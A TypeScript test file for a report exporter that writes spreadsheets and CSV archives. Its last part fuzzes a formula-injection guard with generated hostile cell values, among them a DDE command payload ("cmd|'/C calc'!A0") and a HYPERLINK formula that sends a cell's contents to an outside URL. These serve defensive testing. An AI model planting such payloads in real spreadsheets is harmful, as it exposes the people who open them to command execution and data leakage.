import { strFromU8, unzipSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ReportDocument } from '#lib/domain/document';
import { makeCsvArchive, makeCsvFile } from '#lib/exchange/csv-file';
import { tablesOf } from '#lib/exchange/overview-rows';
import { safeCell, withoutGuard } from '#lib/exchange/safe-cell';
import { makeSpreadsheetFile } from '#lib/exchange/spreadsheet-file';
import { readCsv } from '../support/read-csv';
import { dayOf, readXlsx, type ReadCell } from '../support/read-xlsx';
import { everyKind, fileWords, holding, text } from '../support/report-documents';

const sheetsOf = (document: ReportDocument) => readXlsx(makeSpreadsheetFile(document, fileWords));
const shown = (cell: ReadCell | undefined) => cell?.text ?? cell?.number;

describe('a spreadsheet', () => {
	const sheets = sheetsOf(everyKind);

	test('has an overview and a sheet for each table, under names that every program takes', () => {
		expect(sheets.map(({ name }) => name)).toEqual([
			'Overview',
			'Scores each dimension its level',
			'Scores each dimension its l (2)'
		]);
	});

	test('keeps numbers, percentages, money and days as what they are', () => {
		const [, row] = sheets[1]!.rows;
		expect(row).toEqual([
			{ text: '安全', isFormula: false },
			{ number: 33.3333333333, format: '#,##0.0', isFormula: false },
			{ number: 0.425, format: '0.0%', isFormula: false },
			{ number: 80000, format: '"CN¥"#,##0', isFormula: false },
			{ number: 46477, format: '[$-409]mmm d, yyyy', isFormula: false }
		]);
		expect(dayOf(46477)).toBe('2027-03-31');
	});

	test('says in its overview all that stands outside of tables, and where tables are', () => {
		const rows = sheets[0]!.rows.map((row) => row.map(shown));
		expect(rows).toEqual([
			['Section', 'Entry', 'Value'],
			[undefined, 'Readiness of Kestrel Parts', 'Kestrel Parts, November 2026'],
			[undefined, 'Li Wei\nli@example.org', 46348],
			['In short', 'The firm stands at level 2.'],
			['In short', 'Score', 48.25],
			['In short', 'Coverage', 0.666666666667],
			['In short', 'Round', 46348],
			['In short', 'Chain'],
			['In short', 'First steps'],
			['In short', 'Copy every night', 1],
			['In short', '质量记录上云', 2],
			['In short', 'Nobody owns the data'],
			['Dimensions', 'All dimensions', 'Highest: security. Lowest: data governance.'],
			['Dimensions', 'Scores: each [dimension] / its level?', 'Scores each dimension its level'],
			['Dimensions', 'Weakest dimension'],
			['Dimensions', 'No rule says who may see what.'],
			['Dimensions', 'Scores: each [dimension] / its level?', 'Scores each dimension its l (2)'],
			['Dimensions', 'The server room', 'This photo is not on this device'],
			['Dimensions', undefined, 'a'.repeat(64)]
		]);
	});

	test('is the same, byte for byte, for the same report', () => {
		expect(makeSpreadsheetFile(everyKind, fileWords)).toEqual(
			makeSpreadsheetFile(everyKind, fileWords)
		);
	});

	test('carries a text longer than a cell on in the rows below', () => {
		const long = `${'好'.repeat(31_999)}😀${'='.repeat(40_000)}`;
		const column = sheetsOf(holding([long, 'next']))[1]!
			.rows.slice(1)
			.map((row) => row[0]!.text!);
		expect(column.slice(0, -1).every((each) => each.length <= 32_767)).toBe(true);
		expect(column.slice(0, -1).map(withoutGuard).join('')).toBe(long);
		expect(column.at(-1)).toBe('next');
	});

	test('takes any name for a table', () => {
		const names = fc.array(fc.string({ unit: 'binary', maxLength: 60 }), { maxLength: 8 });
		fc.assert(
			fc.property(names, (captions) => {
				const document: ReportDocument = {
					...everyKind,
					sections: [
						{
							id: 'all',
							title: 'All',
							blocks: captions.map((caption, at) => ({
								kind: 'table',
								id: `t${at}`,
								caption,
								columns: ['One'],
								rows: []
							}))
						}
					]
				};
				const found = sheetsOf(document).map(({ name }) => name);
				expect(found).toHaveLength(captions.length + 1);
				expect(new Set(found.map((name) => name.toLowerCase())).size).toBe(found.length);
				for (const name of found) {
					expect(name).toMatch(/^[^[\]:*?/\\\p{Cc}]{1,31}$/u);
					expect(name).not.toMatch(/^'|'$|^history$/i);
					expect(name.isWellFormed()).toBe(true);
				}
			}),
			{ numRuns: 60 }
		);
	});
});

describe('comma-separated values', () => {
	test('keep what is a number apart from what is text', () => {
		const [table] = tablesOf(everyKind);
		expect(makeCsvFile(table!)).toBe(
			'\uFEFF"Dimension","Score","Share","Cost (CNY)","By"\r\n' +
				'"安全",33.3333333333,42.5%,80000,2027-03-31\r\n' +
				'"\'=1+1",,,,\r\n'
		);
	});

	test('name each currency beside its number where a column holds several', () => {
		const money = (value: number, currency: string) =>
			[{ kind: 'number', value, digits: 0, unit: { currency } }] as const;
		const file = makeCsvFile({ columns: ['Cost'], rows: [money(1, 'CNY'), money(2, 'EUR')] });
		expect(file).toBe('\uFEFF"Cost"\r\n1 CNY\r\n2 EUR\r\n');
	});

	test('come as one file for each table and one for the rest, under plain names', () => {
		const files = unzipSync(makeCsvArchive(everyKind, fileWords));
		expect(Object.keys(files)).toEqual(['00-overview.csv', '01-dimensions.csv', '02-reasons.csv']);
		const overview = readCsv(
			new TextDecoder('utf-8', { ignoreBOM: true }).decode(files['00-overview.csv'])
		);
		expect(overview.map(([, entry, value]) => `${entry!.text}|${value!.text}`)).toContain(
			'Score|48.25'
		);
		expect(strFromU8(files['02-reasons.csv']!)).toContain('two lines\nof a note');
	});
});

/** Ranges of what is not seen, beside spaces, controls and formatting characters. */
const unseen = [
	[0x34f, 0x34f],
	[0x115f, 0x1160],
	[0x17b4, 0x17b5],
	[0x180b, 0x180f],
	[0x3164, 0x3164],
	[0xfe00, 0xfe0f],
	[0xffa0, 0xffa0],
	[0xfff0, 0xfff8],
	[0xe0000, 0xe0fff]
] as const;

/** Whether a spreadsheet program might take a text for a formula; written apart from the guard. */
function looksLikeFormula(cell: string): boolean {
	for (const each of cell) {
		if ('=+-@\t\r\0＝＋－＠﹦﹢﹣﹫⁺⁻₊₋−'.includes(each)) return true;
		const code = each.codePointAt(0)!;
		const isUnseen = unseen.some(([from, to]) => code >= from && code <= to);
		if (!isUnseen && !/\s|\p{Cc}|\p{Cf}|\p{Cs}/u.test(each)) return false;
	}
	return false;
}

const starts = [
	'=',
	'+',
	'-',
	'@',
	'\t',
	'\r',
	'\0',
	'＝',
	'＋',
	'－',
	'＠',
	'−',
	'﹢',
	'﹣',
	'﹦',
	'﹫'
];
const before = [
	...[' ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2060', '\u200f', '\u202e', '\u00ad', '\n'],
	...["'", "''", '\u0001', '\u001b', '\u0085', '\u2028', '\ud800', '\u3164', '\u{e0020}', '"']
];
const after = [
	"cmd|'/C calc'!A0",
	'HYPERLINK("http://example.org?x="&A1,"Open")',
	'1+1',
	'SUM(A1:A9)',
	'_x003D_1',
	'_x005F_x003D_1',
	'constructor',
	'__proto__',
	'a","b\r\nc',
	']]>&amp;<f>1</f>',
	'好\u0000\u0008\ufffe\ufffd\udc00𝟙'
];
const hostile = fc.oneof(
	fc
		.tuple(
			fc.array(fc.constantFrom(...before), { maxLength: 3 }),
			fc.constantFrom(...starts, ''),
			fc.oneof(fc.constantFrom(...after), fc.string({ unit: 'binary', maxLength: 20 }))
		)
		.map(([pad, start, rest]) => pad.join('') + start + rest),
	fc
		.array(fc.nat({ max: 0xffff }), { maxLength: 12 })
		.map((units) => String.fromCharCode(...units)),
	fc.constantFrom(...after, 'constructor', 'toString', '__proto__', "'", '')
);
const count = 5000;
const strings = fc.sample(hostile, { numRuns: count, seed: 2026 });

describe(`${count} hostile strings`, () => {
	test('are guarded where they must be, and come back exactly', () => {
		expect(strings.filter(looksLikeFormula).length).toBeGreaterThan(count / 5);
		for (const each of strings) {
			expect(looksLikeFormula(safeCell(each)), JSON.stringify(each)).toBe(false);
			expect(withoutGuard(safeCell(each))).toBe(each);
		}
	});

	test('are no formula in a spreadsheet, and are found there exactly', () => {
		const [overview, notes] = sheetsOf(holding(strings));
		const cells = [...overview!.rows, ...notes!.rows].flat().filter((cell) => cell !== undefined);
		expect(cells.length).toBeGreaterThan(5 * count);
		for (const cell of cells) {
			expect(cell.isFormula).toBe(false);
			expect(looksLikeFormula(cell.text ?? ''), JSON.stringify(cell.text)).toBe(false);
		}
		expect(notes!.rows.slice(1).map(([cell]) => withoutGuard(cell?.text ?? ''))).toEqual(strings);
		const entries = overview!.rows.slice(3).map((row) => withoutGuard(row[1]?.text ?? ''));
		expect(entries.slice(1, count + 1)).toEqual(strings);
	});

	test('are no formula in comma-separated values, and are found there exactly', () => {
		// What is no character has no place in UTF-8.
		const whole = strings.map((each) => each.toWellFormed());
		const file = new TextEncoder().encode(
			makeCsvFile({ columns: ['Note'], rows: whole.map((each) => [text(each)]) })
		);
		const rows = readCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(file)).slice(1);
		for (const [field] of rows) {
			expect(field!.isQuoted).toBe(true);
			expect(looksLikeFormula(field!.text)).toBe(false);
		}
		expect(rows.map(([field]) => withoutGuard(field!.text))).toEqual(whole);
	});

	test('are no formula in an archive of tables', () => {
		const files = unzipSync(makeCsvArchive(holding(strings.slice(0, 500)), fileWords));
		for (const bytes of Object.values(files))
			for (const field of readCsv(
				new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
			).flat())
				expect(looksLikeFormula(field.text)).toBe(false);
	});
});
